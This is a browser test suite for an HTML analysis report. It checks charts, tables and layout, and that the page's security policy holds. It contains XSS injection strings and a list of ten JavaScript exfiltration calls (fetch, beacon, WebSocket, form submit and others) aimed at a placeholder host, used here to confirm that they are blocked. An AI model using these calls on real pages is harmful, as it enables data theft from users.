"""The page about a run in a real browser: it draws, sorts, searches and changes, complains of nothing, asks nobody."""

import json
from collections.abc import Iterator
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from browser import (
    chromium,
    column,
    complaints,
    count,
    one,
    open_page,
    opened,
    pick,
    refusals,
    requests,
    require_browser,
    screen,
    sent,
    texts,
    uncut,
    until,
)
from pages import ENDING, HOSTILE, IMAGE, KEY, write_table_run
from runs import write_text_run
from selenium.webdriver import ActionChains, Chrome
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

from ihcli.files.fingerprints import files_fingerprint
from ihcli.report import write_report
from ihcli.results.result import read
from ihcli.wording import shortened

N_ROWS = 30
PHONE, DESK, WIDE = (390, 800), (1280, 900), (1400, 900)
BUTTONS = {"Download plot as a PNG", "Zoom", "Pan", "Zoom in", "Zoom out", "Reset axes"}
AWAY = "https://example.invalid/"
# Drawings that are larger than their cell, that lie on another, and charts that are shown and not drawn.
MISFITS = """
const rect = (e) => e.getBoundingClientRect();
const shown = [...document.querySelectorAll(".chart")].filter((e) => rect(e).width);
const drawn = shown.map((e) => [e, [...e.querySelectorAll(".main-svg")].map(rect)]);
const exceeds = (of, cell) => of.left < cell.left - 1 || of.right > cell.right + 1 || of.bottom > cell.bottom + 1;
const meet = (a, b) => a.left < b.right - 1 && b.left < a.right - 1 && a.top < b.bottom - 1 && b.top < a.bottom - 1;
const all = drawn.flatMap(([e, rects]) => rects.map((r) => [e, r]));
return [
  ...drawn.filter(([, rects]) => !rects.length || rects[0].width < 100).map(([e]) => `${e.id} is not drawn`),
  ...all.filter(([e, r]) => exceeds(r, rect(e))).map(([e, r]) => `${e.id} is ${r.width} in ${rect(e).width}`),
  ...all.flatMap(([e, r]) => all.filter(([f, s]) => e !== f && meet(r, s)).map(([f]) => `${e.id} is on ${f.id}`)),
]
"""


@pytest.fixture(scope="module")
def chrome(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chrome]:
    with chromium(tmp_path_factory.mktemp("profile"), *DESK) as found:
        yield found


@pytest.fixture(scope="module")
def table_page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("table")
    write_report(write_table_run(directory / "made", n_rows=N_ROWS)[0], directory / "report.html")
    return directory / "report.html"


@pytest.fixture(scope="module")
def text_page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("text")
    write_text_run(directory / "run", (("not", IMAGE, "not", "bad"), ("fine",), None))
    write_report(read(directory / "run"), directory / "report.html")
    return directory / "report.html"


@pytest.fixture
def table(chrome: Chrome, table_page: Path) -> Iterator[Chrome]:
    yield from opened(chrome, table_page)


@pytest.fixture
def text(chrome: Chrome, text_page: Path) -> Iterator[Chrome]:
    yield from opened(chrome, text_page)


def test_charts_draw(table: Chrome) -> None:
    assert count(table, "#spreads .main-svg") >= 3
    assert count(table, "#spread-relative_error .bars .point") == 40
    assert count(table, "#matrix-chart .heatmaplayer image") == 1
    assert count(table, "#dependence-effect .points .point") == N_ROWS - 1
    assert count(table, "#dependence-attribution .points .point") == N_ROWS - 1
    assert count(table, "#record-attributions .bars .point") == len(HOSTILE)
    assert count(table, "#record-matrix .heatmaplayer image") == 1


def test_names_stay_text(table: Chrome) -> None:
    assert count(table, "img, b > *, [onerror]") == 0
    assert set(column(table, "#features-table", 2)) == {
        name if len(name) <= 32 else shortened(name, 32) for name in HOSTILE
    }
    labels = texts(table, "#matrix-chart .ytick text")
    assert {"<b>bold</b>", "a&lt;b %{x}", "{{script}}"} <= set(labels)
    assert texts(table, "#record h3")[0].startswith(f"row 0, {KEY} </script>")
    assert f"beware of {ENDING}" in texts(table, "#warnings")[0]
    assert table.title.endswith("ihcli report")
    assert IMAGE in table.title


def test_one_word_for_one_figure(text: Chrome) -> None:
    heads = ["rank", "feature", "mean_abs", "mean", "std", "share", "main_mean_abs", "rows"]
    assert texts(text, "#features-table th") == heads
    assert texts(text, "#pairs-table th")[:4] == ["rank", "feature_i", "feature_j", "mean_abs"]
    assert {"prediction", "relative_error", "status"} <= set(texts(text, "#records-table th"))
    note = one(text, "#features-note").text
    assert all(f"{name}: " in note for name in heads[2:7])


def test_words_have_their_positions_from_0(text: Chrome) -> None:
    labels = {"0 not", f"1 {IMAGE[:1]}", "2 not", "3 bad"}
    found = texts(text, "#record-attributions .ytick text")
    assert (found.pop(0), found.pop()) == ("prediction", "baseline")
    assert {label[:3] for label in found} == {label[:3] for label in labels}
    assert set(texts(text, "#record-matrix .ytick text")) == set(found)
    assert {name[:3] for name in uncut(text, "#record-pairs", 1)} <= {label[:3] for label in labels}


GROUPS = {"city": [f"city={name}" for name in ("rome", "<b>oslo</b>", "bonn")], "capital": ["capital=a", "capital=b"]}


def test_groups_show_as_categories_or_in_one_colour(chrome: Chrome, tmp_path: Path) -> None:
    result, _, values = write_table_run(tmp_path / "made", names=("city", "capital", "age"), targets=("risk",))
    active = [[float(row % 4 == place) for row in range(len(values))] for place in range(3)]
    columns = dict(zip(GROUPS["city"], active, strict=True)) | dict.fromkeys(GROUPS["capital"], values[:, 1])
    data = tmp_path / "made/data.parquet"
    pq.write_table(pa.table(columns | {"age": values[:, 2]}), data)
    info = result.info | {"groups": GROUPS, "data": result.info["data"] | {"sha256": files_fingerprint([data])}}
    (result.path / "run.json").write_text(json.dumps(info))
    write_report(read(result.path), tmp_path / "report.html")
    open_page(chrome, tmp_path / "report.html")
    assert any(label == "city = rome" for label in texts(chrome, "#record-attributions .ytick text"))
    assert any(label == "capital" for label in texts(chrome, "#record-attributions .ytick text"))
    assert texts(chrome, "#swarm-legend span")[-2:] == ["grey: no value", "each category of a group has a colour"]
    seen = set()
    for place, pair in enumerate(text[3:] for text in texts(chrome, "#dependence-pair option")):
        pick(chrome, "#dependence-pair", str(place))
        for turn in (1, -1):
            across, shade = pair.split(" × ")[::turn]
            seen.add((across, shade))
            check_pair(chrome, across, shade)
            one(chrome, "#dependence-swap").click()
    assert len(seen) == 6
    assert complaints(chrome) == []


def check_pair(chrome: Chrome, across: str, shade: str) -> None:
    note = one(chrome, "#dependence-note").text
    chart = "#dependence-attribution"
    assert one(chrome, chart).is_displayed() == (across != "capital")
    if across == "capital":
        assert "nothing can be drawn" in note
        return
    categories = ["rome", "<b>oslo</b>", "bonn", "(none)"]
    assert (texts(chrome, f"{chart} .xtick text") == categories) == (across == "city")
    assert (texts(chrome, f"{chart} .legendtext") == categories) == (shade == "city")
    assert count(chrome, f"{chart} .colorbar") == (shade == "age")
    assert one(chrome, "#dependence-surface").is_displayed() == (shade != "capital")
    if shade != "capital":
        assert (texts(chrome, "#dependence-surface .xtick text") == categories) == (across == "city")
        assert (texts(chrome, "#dependence-surface .ytick text") == categories) == (shade == "city")
    assert ("all points have one colour" in note) == (shade == "capital")
    assert count(chrome, f"{chart} .points .point") == N_ROWS - 1


def test_values_of_the_heatmap_show_under_the_pointer(table: Chrome) -> None:
    chart = one(table, "#matrix-chart .nsewdrag")
    table.execute_script("arguments[0].scrollIntoView({block: 'center'})", chart)
    width, height = chart.rect["width"], chart.rect["height"]
    # Offsets are from the middle of the element: this is the second cell of the first line.
    right, down = int(width * (1.5 / len(HOSTILE) - 0.5)), int(height * (0.5 / len(HOSTILE) - 0.5))
    ActionChains(table).move_to_element_with_offset(chart, right, down).pause(0.5).perform()
    hover = "".join(texts(table, "#matrix-chart .hovertext"))
    pairs = zip(*(uncut(table, "#pairs-table", place) for place in (2, 3, 4)), strict=True)
    assert [pair for pair in pairs if all(text in hover for text in pair)]


def test_tables_sort_by_their_heads(table: Chrome) -> None:
    head = one(table, "#features-table th:nth-child(5) button")  # std
    for direction in ("descending", "ascending"):
        head.send_keys(Keys.ENTER)
        found = [float(value.replace("−", "-")) for value in column(table, "#features-table", 5)]
        assert found == sorted(found, reverse=direction == "descending")
        assert one(table, "#features-table th:nth-child(5)").get_attribute("aria-sort") == direction


def test_tables_are_searched_by_name(table: Chrome) -> None:
    one(table, "#pairs-table input").send_keys("BOLD")
    pairs = list(zip(column(table, "#pairs-table", 2), column(table, "#pairs-table", 3), strict=True))
    assert len(pairs) == len(HOSTILE) - 1
    assert all("<b>bold</b>" in pair for pair in pairs)
    assert "6 of 6" in one(table, "#pairs-table [role=status]").text


def test_the_record_changes_by_row_key_and_steps(table: Chrome) -> None:
    before = texts(table, "#record-attributions .ytick text")
    one(table, "#records-table tbody tr:nth-child(3) button").send_keys(Keys.ENTER)
    assert texts(table, "#record h3")[0].startswith("row 2,")
    assert texts(table, "#record-attributions .ytick text") != before
    assert one(table, "#records-table tr[aria-selected=true] td").text == "2"
    one(table, "#next").send_keys(Keys.ENTER)
    assert texts(table, "#record h3")[0].startswith("row 3,")
    one(table, "#records-table input").send_keys(f"{ENDING}29")
    assert column(table, "#records-table", 1) == ["29"]
    one(table, "#records-table tbody button").click()
    assert "no values" in one(table, "#record").text


def test_rows_that_missed_the_tolerance_are_found(table: Chrome) -> None:
    one(table, "#records-table input").send_keys("not_converged")
    assert column(table, "#records-table", 1) == ["1"]


def test_a_target_changes_everything_below(table: Chrome) -> None:
    before = column(table, "#features-table", 3), texts(table, "#record .figures")
    names = [option.text for option in one(table, "#target").find_elements(By.TAG_NAME, "option")]
    assert sorted(names) == ["bad", f"good {IMAGE}"]
    pick(table, "#target", "1")
    after = column(table, "#features-table", 3), texts(table, "#record .figures")
    assert before[0] != after[0]
    assert before[1] != after[1]


def test_dependence_views_follow_the_pair(table: Chrome) -> None:
    title = texts(table, "#dependence-effect .xtitle")
    one(table, "#dependence-swap").click()
    assert texts(table, "#dependence-effect .xtitle") != title
    pick(table, "#dependence-pair", "5")
    assert count(table, "#dependence-effect .points .point") == N_ROWS - 1
    one(table, "#pairs-table tbody tr:nth-child(2) button").send_keys(Keys.ENTER)
    assert one(table, "#dependence-pair").get_attribute("value") == "1"


def test_a_word_shows_its_pairs(text: Chrome) -> None:
    assert texts(text, "#words .word") == ["not", IMAGE, "not", "bad"]
    strengths = [word.get_attribute("style") for word in text.find_elements(By.CSS_SELECTOR, ".word")]
    text.find_elements(By.CSS_SELECTOR, ".word")[1].send_keys(Keys.ENTER)
    assert text.find_elements(By.CSS_SELECTOR, ".word")[1].get_attribute("aria-pressed") == "true"
    assert [word.get_attribute("style") for word in text.find_elements(By.CSS_SELECTOR, ".word")] != strengths
    assert IMAGE in one(text, "#words [role=status]").text
    assert count(text, "#record-matrix .heatmaplayer image") == 1
    assert count(text, "img") == 0
    one(text, "#records-table tbody tr:nth-child(2) button").click()
    assert texts(text, "#words .word") == ["fine"]


def test_on_a_phone_nothing_is_wider_than_the_screen(chrome: Chrome, table_page: Path, text_page: Path) -> None:
    with screen(chrome, *PHONE, is_mobile=True):
        for page in (table_page, text_page):
            open_page(chrome, page)
            assert chrome.execute_script("return document.documentElement.scrollWidth") == PHONE[0]


def misfits(chrome: Chrome) -> list[str]:
    found: list[str] = chrome.execute_script(MISFITS)
    return found


def until_charts_fit(chrome: Chrome) -> None:
    until(chrome, lambda found: not misfits(found), str(misfits(chrome)))


@pytest.mark.parametrize("size", [WIDE, PHONE])
def test_charts_fit_their_cells_as_soon_as_the_page_is_open(
    chrome: Chrome, table_page: Path, text_page: Path, size: tuple[int, int]
) -> None:
    with screen(chrome, *size, is_mobile=size == PHONE):
        for page, charts in ((table_page, 8), (text_page, 3)):
            open_page(chrome, page)
            assert (count(chrome, ".chart .main-svg") > charts, misfits(chrome)) == (True, [])


def test_charts_follow_their_cells_and_the_window(table: Chrome) -> None:
    for style in ("width: 600px", "width: 1100px", "width: 333px", ""):
        table.execute_script("document.querySelector('main').style = arguments[0]", style)
        until_charts_fit(table)
    with screen(table, *PHONE, is_mobile=True):
        until_charts_fit(table)
    until_charts_fit(table)


def test_a_page_that_is_shown_later_has_charts_that_fit(chrome: Chrome, table_page: Path) -> None:
    hide = "const sheet = new CSSStyleSheet(); sheet.replaceSync('main { display: none }'); window.sheet = sheet;"
    script = {"source": f"{hide} document.adoptedStyleSheets = [sheet]"}
    complaints(chrome)
    made = chrome.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", script)
    try:
        open_page(chrome, table_page)
    finally:
        chrome.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument", made)
    assert count(chrome, ".main-svg") == 0
    chrome.execute_script("window.sheet.replaceSync('')")
    until_charts_fit(chrome)
    chrome.execute_script(
        "const fold = document.createElement('details'); const page = document.querySelector('main');"
        "page.replaceWith(fold); fold.append(page); document.querySelector('#next').click()"
    )
    chrome.execute_script("document.querySelector('details').open = true")
    until_charts_fit(chrome)
    assert complaints(chrome) == []


def test_a_page_in_a_background_tab_has_charts_that_fit(chrome: Chrome, table_page: Path) -> None:
    front = chrome.current_window_handle
    tab = chrome.execute_cdp_cmd("Target.createTarget", {"url": table_page.as_uri(), "background": True})["targetId"]
    try:
        chrome.switch_to.window(tab)
        until(chrome, lambda found: found.execute_script("return document.body.dataset.drawn"))
        assert misfits(chrome) == []
        chrome.close()
    finally:
        chrome.switch_to.window(front)


A4_PX, HEADINGS_PX = (297 - 2 * 14) / 25.4 * 96, 60
"""Of a page between its margins: a chart that is taller leaves its heading alone, and is cut."""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_on_paper_charts_fit_and_are_dark_on_light(table: Chrome, scheme: str) -> None:
    scheme_of_screen = {"name": "prefers-color-scheme", "value": scheme}
    table.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [scheme_of_screen]})
    paper = {"media": "print", "features": [scheme_of_screen]}
    try:
        table.execute_script("window.dispatchEvent(new Event('beforeprint'))")
        drawn = "return document.querySelector('#record-attributions .main-svg').viewBox.baseVal.width"
        assert table.execute_script(f"{drawn} / document.querySelector('main').clientWidth") > 0.8  # not of half a page
        table.execute_cdp_cmd("Emulation.setEmulatedMedia", paper)
        for width in (700, 1000):
            with screen(table, width, 900):
                assert misfits(table) == []
                ink = "return getComputedStyle(document.querySelector('#matrix-chart .ytick text')).fill"
                assert table.execute_script(ink) == "rgb(27, 32, 39)"
                assert not one(table, ".modebar").is_displayed()
                heights = "return [...document.querySelectorAll('.chart')].map((e) => e.getBoundingClientRect().height)"
                assert max(table.execute_script(heights)) < A4_PX - HEADINGS_PX
                columns = (
                    "return getComputedStyle(document.querySelector('.browser')).gridTemplateColumns.split(' ').length"
                )
                assert table.execute_script(columns) == 1
    finally:
        table.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": "", "features": []})
        table.execute_script("window.dispatchEvent(new Event('afterprint'))")


def test_charts_have_these_buttons_and_no_other(table: Chrome) -> None:
    titles = "return [...document.querySelectorAll('.modebar-btn')].map((e) => e.dataset.title.trim())"
    found = table.execute_script(titles)
    charts = count(table, ".js-plotly-plot")
    assert (set(found), len(found)) == (BUTTONS, charts * len(BUTTONS))
    assert count(table, ".modebar a[href], .modebar-btn--logo, .plotlyjsicon") == 0
    assert set(table.execute_script("return [...document.querySelectorAll('a')].map((e) => e.hash && e.pathname)")) == {
        table.execute_script("return location.pathname")
    }
    servers = "return [...document.querySelectorAll('.js-plotly-plot')].map((e) => e._context.plotlyServerURL)"
    assert table.execute_script(servers) == [""] * charts


def test_charts_are_saved_as_pictures(table: Chrome, tmp_path: Path) -> None:
    allowed = {"behavior": "allow", "downloadPath": str(tmp_path)}
    table.execute_cdp_cmd("Browser.setDownloadBehavior", allowed)
    table.execute_script("document.querySelector('#matrix-chart [data-title^=Download]').click()")
    file = tmp_path / "ihcli-matrix-chart.png"
    until(table, lambda _: file.exists() and file.stat().st_size)
    assert file.read_bytes().startswith(b"\x89PNG")


def test_charts_follow_the_dark_scheme(table: Chrome) -> None:
    def ink() -> str:
        script = "return getComputedStyle(document.querySelector('#matrix-chart .ytick text')).fill"
        return str(table.execute_script(script))

    light = ink()
    dark = {"features": [{"name": "prefers-color-scheme", "value": "dark"}]}
    table.execute_cdp_cmd("Emulation.setEmulatedMedia", dark)
    try:
        until(table, lambda _: ink() != light)
    finally:
        table.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": []})


def test_the_policy_stops_scripts_and_requests(chrome: Chrome, table_page: Path) -> None:
    open_page(chrome, table_page)
    refusals(chrome)
    chrome.execute_script(
        "document.body.insertAdjacentHTML('beforeend', '<img src=\"https://example.invalid/a\" onerror=\"ran = 1\">');"
        "const s = document.createElement('script'); s.textContent = 'ran = 1'; document.body.append(s);"
    )
    assert chrome.execute_script("return window.ran") is None
    assert len([message for message in complaints(chrome) if "Content Security Policy" in message]) >= 2
    assert refusals(chrome) == ["csp"]


WAYS_OUT = {
    "fetch": "fetch(to).catch(() => null)",
    "request": "const r = new XMLHttpRequest(); r.open('POST', to); r.onerror = () => null; r.send('data')",
    "beacon": "navigator.sendBeacon(to, 'data')",
    "socket": "try { new WebSocket(to.replace('https', 'wss')) } catch { }",
    "picture": "new Image().src = to",
    "frame": "const f = document.createElement('iframe'); f.src = to; document.body.append(f)",
    "form": "const f = document.createElement('form'); f.action = to; document.body.append(f); f.submit()",
    "style": "document.body.style.background = `url(${to})`",
    "navigation": "location.href = to",
    "link": "const a = document.createElement('a'); a.href = to; document.body.append(a); a.click()",
}


@pytest.mark.parametrize("way", WAYS_OUT)
def test_nothing_leaves_the_page(chrome: Chrome, table_page: Path, way: str) -> None:
    open_page(chrome, table_page)
    requests(chrome)
    chrome.execute_script(f"const to = '{AWAY}'; {WAYS_OUT[way]}")
    chrome.execute_async_script("requestAnimationFrame(() => setTimeout(arguments[0], 100))")
    assert chrome.current_url == table_page.as_uri()
    assert sent(chrome) == []
    complaints(chrome)


def test_without_a_browser_tests_are_skipped_but_fail_in_ci(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "")
    monkeypatch.setenv("CI", "true")
    with pytest.raises(pytest.fail.Exception, match="apt-get install chromium"):
        require_browser()
    monkeypatch.delenv("CI")
    with pytest.raises(pytest.skip.Exception, match="apt-get install chromium"):
        require_browser()
